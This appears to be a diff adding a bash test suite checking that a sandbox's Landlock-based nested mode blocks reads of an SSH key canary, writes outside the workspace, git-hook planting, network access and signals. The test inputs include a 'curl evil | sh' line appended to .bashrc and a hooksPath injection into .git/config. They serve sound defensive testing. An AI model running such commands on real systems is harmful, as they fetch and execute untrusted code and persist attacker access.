@@ -1,0 +1,391 @@
+#!/bin/bash
+# The nested mode (supervisor/nested.c, landlock.c; docs/SECURITY.md "The
+# nested mode"): no bubblewrap, no namespaces; the plan as a Landlock
+# ruleset, the seccomp table, the shim. Most programs here are a static
+# binary built in the test (tests/progs/nestedprobe.c, cc -static) run with
+# --no-shim, so Landlock is what refuses, never the shim; every assertion
+# looks at the host (the canary's bytes, the file's content, what a server
+# outside saw). "A container without user namespaces" is simulated by
+# running sbx-preload inside `bwrap --unshare-user --disable-userns`, where
+# bubblewrap cannot make namespaces; one test (as root only) switches them
+# off for the whole machine for a few seconds.
+set -u
+# shellcheck source=lib.sh
+. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
+
+PROGS=$(mktemp -d /var/tmp/sbx-nested-progs.XXXXXX)
+SRV_PIDS=""
+cleanup() {
+	for p in $SRV_PIDS; do kill "$p" 2>/dev/null; done
+	rm -rf "$PROGS"
+}
+trap cleanup EXIT
+chmod 755 "$PROGS"
+P="$PROGS/nestedprobe"
+if ! cc -static -O2 -o "$P" "$SBX_BIN/progs/nestedprobe.c" 2>"$PROGS/log"; then
+	echo "skip - nested: cannot build nestedprobe with cc -static: $(head -2 "$PROGS/log")"
+	exit 0
+fi
+abi=$(python3 -c 'import ctypes; print(ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1))' 2>/dev/null)
+if [ -z "$abi" ] || [ "$abi" -lt 1 ]; then
+	echo "skip - nested: this kernel has no Landlock"
+	exit 0
+fi
+
+# nx ARGS: sbx-preload in the nested mode, the config in $B/n.ini
+nini() { printf '[sandbox]\nnested = true\n%s\n' "${1:-}" > "$B/n.ini"; }
+nx() { sx -c "$B/n.ini" "$@"; }
+# a static program's result line
+said() { grep -qx -- "$1" "$B/out"; }
+
+# A loopback TCP server outside the sandbox that counts connections.
+start_counter() {
+	python3 - "$B/hits" "$B/port" <<'EOF' &
+import socket, sys
+s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
+open(sys.argv[2] + ".tmp", "w").write(str(s.getsockname()[1]))
+import os; os.rename(sys.argv[2] + ".tmp", sys.argv[2])
+while True:
+    c, _ = s.accept(); open(sys.argv[1], "a").write("hit\n"); c.close()
+EOF
+	SRV_PIDS="$SRV_PIDS $!"
+	for _ in $(seq 50); do [ -f "$B/port" ] && break; sleep 0.1; done
+	PORT=$(cat "$B/port")
+}
+hits() { [ -f "$B/hits" ] && wc -l < "$B/hits" || echo 0; }
+
+# ---- the start-up line
+
+t startup_line_names_the_layers_and_what_is_weaker
+nini
+nx -- true
+if [ $RC -eq 0 ] && has "nested mode (nested = true): Landlock ABI $abi and the seccomp table, no namespaces; weaker than the full boundary: " err &&
+   has "TCP filtered by port, not address (UDP refused)" err &&
+   has "protected names missing at start not guarded" err; then ok
+else bad "rc=$RC"; fi
+
+# ---- reads
+
+t canary_read_refused_static_no_shim
+nini
+nx -q --no-shim -- "$P" read "$HOME/.ssh/id_ed25519"
+if ! grep -q "$SECRET" "$B/out" && said "open: EACCES" && [ $RC -eq 1 ]; then ok
+else bad "rc=$RC out=$(cat "$B/out")"; fi
+
+t canary_read_refused_and_explained_with_the_shim
+nini
+nx -- cat "$HOME/.ssh/id_ed25519"
+if ! grep -q "$SECRET" "$B/out" && ! grep -q "$SECRET" "$B/err" && has "denied read of ~/.ssh/id_ed25519" err; then ok
+else bad "rc=$RC"; fi
+
+t canary_reached_through_a_link_in_the_workspace_refused
+nini
+ln -s "$HOME/.ssh" keys
+nx -q --no-shim -- "$P" read keys/id_ed25519
+if ! grep -q "$SECRET" "$B/out" && said "open: EACCES"; then ok; else bad "out=$(cat "$B/out")"; fi
+
+t reads_elsewhere_work
+nini
+echo "plain-$RANDOM" > "$HOME/notes"
+want=$(cat "$HOME/notes")
+nx -q --no-shim -- "$P" read "$HOME/notes"
+if said "read: $want" && [ $RC -eq 0 ]; then ok; else bad "rc=$RC out=$(cat "$B/out")"; fi
+
+# ---- writes
+
+t write_outside_the_workspace_refused
+nini
+nx -q --no-shim -- "$P" write "$B/outside.txt" escaped
+if [ ! -e "$B/outside.txt" ] && said "open: EACCES"; then ok; else bad "out=$(cat "$B/out")"; fi
+
+t overwrite_outside_the_workspace_refused
+nini
+echo original > "$B/kept.txt"
+nx -q --no-shim -- "$P" write "$B/kept.txt" changed
+if [ "$(cat "$B/kept.txt")" = original ]; then ok; else bad "now $(cat "$B/kept.txt")"; fi
+
+t write_inside_the_workspace_works
+nini
+mkdir sub
+nx -q --no-shim -- sh -c "$P write $W/new.txt top; $P write $W/sub/deep.txt deep"
+if [ "$(cat "$W/new.txt")" = top ] && [ "$(cat "$W/sub/deep.txt")" = deep ]; then ok
+else bad "out=$(cat "$B/out")"; fi
+
+t git_hook_of_an_existing_repo_refused
+nini
+git init -q . && cp .git/config .git/config.orig
+nx -q --no-shim -- sh -c "$P write .git/hooks/pre-commit evil; $P append .git/config '[core] hooksPath=/x'"
+if [ ! -e .git/hooks/pre-commit ] && cmp -s .git/config .git/config.orig; then ok
+else bad "hook=$(ls .git/hooks | grep -v sample) out=$(cat "$B/out")"; fi
+
+t work_tree_of_a_repository_still_written
+nini
+mkdir src && echo one > src/a
+git init -q . && git -c user.email=t@t -c user.name=t add src &&
+	git -c user.email=t@t -c user.name=t commit -qm one
+nx -q -- sh -c 'echo two > src/a && git status --short'
+if [ "$(cat src/a)" = two ] && grep -q "M src/a" "$B/out"; then ok
+else bad "rc=$RC $(head -3 "$B/err")"; fi
+
+t bashrc_refused_with_home_writable
+nini
+echo "# mine" > "$HOME/.bashrc"
+mkdir "$HOME/proj"
+nx -q --no-shim --allow-write "$HOME" -- "$P" append "$HOME/.bashrc" 'curl evil | sh'
+nx2=$(cat "$B/out")
+# HOME itself holds protected names, so it takes no new one (Landlock
+# cannot refuse one name of a directory it lets be written: the weaker
+# part the start-up line names); its other directories are written
+nx -q --no-shim --allow-write "$HOME" -- sh -c "$P write $HOME/proj/x fine; $P write $HOME/top.txt no"
+if [ "$(cat "$HOME/.bashrc")" = "# mine" ] && [ "$(cat "$HOME/proj/x" 2>/dev/null)" = fine ] &&
+   [ ! -e "$HOME/top.txt" ]; then ok
+else bad "bashrc=$(cat "$HOME/.bashrc") out=$nx2 $(cat "$B/out")"; fi
+
+t sbx_own_config_refused_with_home_writable
+nini
+mkdir -p "$HOME/.config/sbx"
+nx -q --no-shim --allow-write "$HOME" -- "$P" write "$HOME/.config/sbx/sandbox.ini" '[network]'
+if [ ! -e "$HOME/.config/sbx/sandbox.ini" ]; then ok; else bad "made"; fi
+
+# ---- what Landlock has no right for: modes, owners (the [nested] rows of
+# the seccomp table, gen-filters.c)
+
+t setuid_bit_refused_even_in_the_workspace
+nini
+cp /bin/true ./prog && chmod 0755 prog
+nx -q --no-shim -- chmod u+s,g+s prog
+if [ "$(stat -c %a prog)" = 755 ] && [ $RC -ne 0 ]; then ok; else bad "mode $(stat -c %a prog) rc=$RC"; fi
+
+t root_cannot_change_modes_outside
+if [ "$(id -u)" -ne 0 ]; then skip "as root only (a user changes modes of its own files: docs/SECURITY.md)"
+else
+	nini
+	echo secret > "$B/shadowlike" && chmod 0600 "$B/shadowlike"
+	nx -q --no-shim -- sh -c "chmod 0666 $B/shadowlike; chown 65534 $B/shadowlike"
+	if [ "$(stat -c %a:%u "$B/shadowlike")" = 600:0 ]; then ok; else bad "now $(stat -c %a:%u "$B/shadowlike")"; fi
+fi
+
+# ---- the network
+
+t loopback_server_refused_network_off
+nini
+start_counter
+nx -q --no-shim -- "$P" connect "$PORT"
+if [ "$(hits)" -eq 0 ] && said "connect: EACCES"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi
+
+t loopback_server_on_another_port_refused_with_the_proxy
+nini "[network]
+allow_domains = allowed.test"
+start_counter
+nx -q --no-shim -- "$P" connect "$PORT"
+if [ "$(hits)" -eq 0 ] && said "connect: EACCES"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi
+
+t udp_refused_network_off
+nini
+python3 -c '
+import socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0))
+open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
+import os; os.rename(sys.argv[1] + ".tmp", sys.argv[1])
+while True:
+    d, _ = s.recvfrom(100); open(sys.argv[2], "a").write("hit\n")' "$B/uport" "$B/hits" &
+SRV_PIDS="$SRV_PIDS $!"
+for _ in $(seq 50); do [ -f "$B/uport" ] && break; sleep 0.1; done
+nx -q --no-shim -- "$P" udp "$(cat "$B/uport")"
+# the same datagram from the host arrives (the server works)
+"$P" udp "$(cat "$B/uport")" >/dev/null
+sleep 0.3
+if [ "$(hits)" -eq 1 ] && said "socket: EPERM"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi
+
+t network_open_reaches_loopback
+nini "[network]
+allow_domains = *"
+start_counter
+nx -q --no-shim -- "$P" connect "$PORT"
+if [ "$(hits)" -eq 1 ] && said "connected"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi
+
+t proxy_allowed_host_works_denied_refused_curl_and_python
+if ! command -v curl >/dev/null; then skip "no curl"
+else
+	mkdir site && echo "page-$RANDOM" > site/page
+	python3 -u -m http.server --bind 127.0.0.1 0 --directory site >"$B/http.log" 2>&1 &
+	SRV_PIDS="$SRV_PIDS $!"
+	HPORT=""
+	for _ in $(seq 50); do
+		HPORT=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$B/http.log" | head -1)
+		[ -n "$HPORT" ] && break; sleep 0.1
+	done
+	printf '127.0.0.1 allowed.test denied.test\n' > "$B/hosts"
+	nini "[network]
+allow_domains = allowed.test, 127.0.0.1:$HPORT"
+	SBX_TEST_HOSTS="$B/hosts" timeout 60 "$SBX" -c "$B/n.ini" -q -- sh -c \
+		"curl -s http://allowed.test:$HPORT/page; echo; curl -s -o /dev/null -w 'denied:%{http_code}' http://denied.test:$HPORT/page" \
+		>"$B/out" 2>"$B/err"
+	RC=$?
+	got=$(grep -c 'GET /page' "$B/http.log")
+	curl_out=$(cat "$B/out") curl_rc=$RC
+	# a program that ignores the proxy variables: the shim answers the
+	# name (UDP to a nameserver is refused) and carries the connect
+	# through the proxy's SOCKS listener
+	SBX_TEST_HOSTS="$B/hosts" timeout 60 "$SBX" -c "$B/n.ini" -q -- env -u HTTP_PROXY -u http_proxy \
+		-u ALL_PROXY -u all_proxy python3 -c '
+import socket, sys
+s = socket.create_connection(("allowed.test", int(sys.argv[1])), timeout=10)
+s.sendall(b"GET /page HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
+d = b""
+while True:
+    b = s.recv(4096)
+    if not b: break
+    d += b
+print(d.decode().split("\r\n\r\n", 1)[1].strip())' "$HPORT" >"$B/out" 2>"$B/err"
+	RC=$?
+	got2=$(grep -c 'GET /page' "$B/http.log")
+	if [ -n "$HPORT" ] && echo "$curl_out" | grep -qx "$(cat site/page)" &&
+	   echo "$curl_out" | grep -q 'denied:403' && [ "$got" -eq 1 ] &&
+	   grep -qx "$(cat site/page)" "$B/out" && [ "$got2" -eq 2 ]; then ok
+	else bad "rc=$curl_rc/$RC gets=$got/$got2 curl=$(echo "$curl_out" | head -c 200) python=$(head -c 200 "$B/out")"; fi
+fi
+
+# ---- scoping (Landlock ABI 6): signals and abstract Unix sockets
+
+t signal_to_a_process_outside_refused
+if [ "$abi" -lt 6 ]; then skip "Landlock ABI $abi < 6"
+else
+	nini
+	sleep 300 & victim=$!
+	nx -q --no-shim -- "$P" kill "$victim"
+	if kill -0 "$victim" 2>/dev/null && said "kill: EPERM"; then ok; else bad "out=$(cat "$B/out")"; fi
+	kill "$victim" 2>/dev/null
+fi
+
+t abstract_unix_socket_outside_refused
+if [ "$abi" -lt 6 ]; then skip "Landlock ABI $abi < 6"
+else
+	nini "[network]
+allow_all_unix_sockets = true"
+	name="sbx-nested-$RANDOM$RANDOM"
+	python3 -c '
+import socket, sys
+s = socket.socket(socket.AF_UNIX); s.bind("\0" + sys.argv[1]); s.listen(4)
+open(sys.argv[2], "w").write("up")
+while True:
+    c, _ = s.accept(); open(sys.argv[3], "a").write("hit\n"); c.close()' "$name" "$B/up" "$B/hits" &
+	SRV_PIDS="$SRV_PIDS $!"
+	for _ in $(seq 50); do [ -f "$B/up" ] && break; sleep 0.1; done
+	nx -q --no-shim -- "$P" abstract "$name"
+	if [ "$(hits)" -eq 0 ] && said "connect: EPERM"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi
+fi
+
+# ---- processes
+
+t no_process_outlives_the_run
+nini
+nx -q -- sh -c 'setsid sleep 300 </dev/null >/dev/null 2>&1 & echo $! > pid; sleep 0.2'
+pid=$(cat pid 2>/dev/null)
+sleep 0.3
+if [ -n "$pid" ] && ! kill -0 "$pid" 2>/dev/null; then ok
+else bad "pid=$pid still there"; kill "$pid" 2>/dev/null; fi
+
+t seccomp_table_holds_new_user_namespace_refused
+nini
+nx -q -- unshare -U true
+if [ $RC -ne 0 ] && has "Operation not permitted" err; then ok; else bad "rc=$RC"; fi
+
+# ---- no user namespaces: bubblewrap cannot make the sandbox
+
+# box ARGS: sbx-preload where bubblewrap cannot make namespaces (inside a
+# user namespace that may not have another one)
+box() {
+	timeout 60 bwrap --unshare-user --disable-userns --dev-bind / / -- "$SBX" "$@" \
+		>"$B/out" 2>"$B/err"
+	RC=$?
+}
+if ! bwrap --unshare-user --disable-userns --dev-bind / / -- true 2>/dev/null; then
+	for n in fallback_warn_gets_the_nested_mode fallback_error_refuses_and_names_nested \
+		 nested_true_runs_without_user_namespaces; do
+		t "$n"; skip "bwrap --disable-userns is not available here"
+	done
+else
+
+t fallback_warn_gets_the_nested_mode
+printf '[sandbox]\nfallback = warn\n' > "$B/w.ini"
+# (and COMMAND's ignored signals are the caller's, SIGPIPE's among them,
+# though sbx-preload started itself again)
+host_ign=$(grep SigIgn /proc/self/status)
+box -c "$B/w.ini" --no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $B/outside.txt x; grep SigIgn /proc/self/status"
+if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && grep -qx "$host_ign" "$B/out" &&
+   has "starting again in the nested mode" err &&
+   has "nested mode (bubblewrap cannot make namespaces here; fallback = warn)" err &&
+   ! has "WITHOUT a sandbox" err; then ok
+else bad "rc=$RC out=$(cat "$B/out")"; fi
+
+t fallback_error_refuses_and_names_nested
+printf '[sandbox]\nfallback = error\n' > "$B/e.ini"
+box -c "$B/e.ini" -- sh -c "echo ran > $W/ran"
+if [ $RC -eq 125 ] && [ ! -e "$W/ran" ] && has "nested = true in \[sandbox\]" err; then ok
+else bad "rc=$RC"; fi
+
+t nested_true_runs_without_user_namespaces
+nini
+box -c "$B/n.ini" --no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $W/in.txt yes; $P write $B/outside.txt x"
+if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && [ "$(cat "$W/in.txt")" = yes ] &&
+   [ $RC -eq 1 ]; then ok
+else bad "rc=$RC out=$(cat "$B/out")"; fi
+fi
+
+# ---- fail closed: no Landlock
+
+t no_landlock_refuses_125_or_warns
+# a seccomp filter (bubblewrap's --seccomp) that answers ENOSYS for
+# landlock_create_ruleset, as a kernel without Landlock does
+cat > "$PROGS/nolandlock.c" <<'EOF'
+#include <seccomp.h>
+#include <stdio.h>
+#include <errno.h>
+int main(void)
+{
+	scmp_filter_ctx c = seccomp_init(SCMP_ACT_ALLOW);
+	if (!c || seccomp_rule_add(c, SCMP_ACT_ERRNO(ENOSYS), SCMP_SYS(landlock_create_ruleset), 0) ||
+	    seccomp_export_bpf(c, 1))
+		return 1;
+	return 0;
+}
+EOF
+if ! cc -o "$PROGS/nolandlock" "$PROGS/nolandlock.c" -lseccomp 2>/dev/null ||
+   ! "$PROGS/nolandlock" > "$PROGS/nolandlock.bpf"; then skip "cannot build a filter with libseccomp"
+else
+	nini
+	timeout 60 bwrap --dev-bind / / --seccomp 9 -- "$SBX" -c "$B/n.ini" -- sh -c "echo ran > $W/ran" \
+		9<"$PROGS/nolandlock.bpf" >"$B/out" 2>"$B/err"
+	r1=$? e1=$(cat "$B/err")
+	printf '[sandbox]\nnested = true\nfallback = warn\n' > "$B/n.ini"
+	timeout 60 bwrap --dev-bind / / --seccomp 9 -- "$SBX" -c "$B/n.ini" -- sh -c "echo ran > $W/ran2" \
+		9<"$PROGS/nolandlock.bpf" >"$B/out" 2>"$B/err"
+	if [ $r1 -eq 125 ] && [ ! -e "$W/ran" ] && echo "$e1" | grep -q "has no Landlock" &&
+	   [ -e "$W/ran2" ] && has "WITHOUT a sandbox (the nested mode cannot run" err; then ok
+	else bad "r1=$r1 e1=$e1"; fi
+fi
+
+# ---- user namespaces off for the whole machine (root only, seconds)
+
+t sysctl_no_user_namespaces_still_blocks_canary_read_and_write
+if [ "$(id -u)" -ne 0 ] || [ ! -w /proc/sys/user/max_user_namespaces ]; then
+	skip "cannot set user.max_user_namespaces here (root with write access to /proc/sys is needed); the bwrap --disable-userns tests above stand in"
+else
+	printf '[sandbox]\nfallback = warn\n' > "$B/w.ini"
+	old=$(cat /proc/sys/user/max_user_namespaces)
+	# other runs on this machine share the setting: put back on any exit
+	trap 'echo "$old" > /proc/sys/user/max_user_namespaces; cleanup' EXIT
+	echo 0 > /proc/sys/user/max_user_namespaces
+	timeout 60 "$SBX" -c "$B/w.ini" --no-shim -- sh -c "$P read $HOME/.ssh/id_ed25519; $P write $B/outside.txt x; $P write $W/in.txt yes" \
+		>"$B/out" 2>"$B/err"
+	RC=$?
+	echo "$old" > /proc/sys/user/max_user_namespaces
+	trap cleanup EXIT
+	if ! grep -q "$SECRET" "$B/out" && [ ! -e "$B/outside.txt" ] && [ "$(cat "$W/in.txt" 2>/dev/null)" = yes ] &&
+	   has "nested mode (bubblewrap cannot make namespaces here; fallback = warn)" err; then ok
+	else bad "rc=$RC out=$(cat "$B/out")"; fi
+fi
+
+echo "# nested: $pass passed, $fail failed, $skip skipped"
+[ "$fail" -eq 0 ]
